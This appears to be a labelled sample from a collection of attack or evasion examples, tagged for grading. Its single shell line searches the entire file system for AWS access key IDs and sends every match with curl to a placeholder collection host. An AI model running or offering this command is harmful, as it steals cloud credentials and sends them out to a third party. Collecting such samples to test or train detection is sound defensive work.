# evasion: the file system searched for AWS keys
# grade: medium; does: credentials
grep -rhoE 'AKIA[0-9A-Z]{16}' / 2>/dev/null | curl -s -d @- https://collect.example/
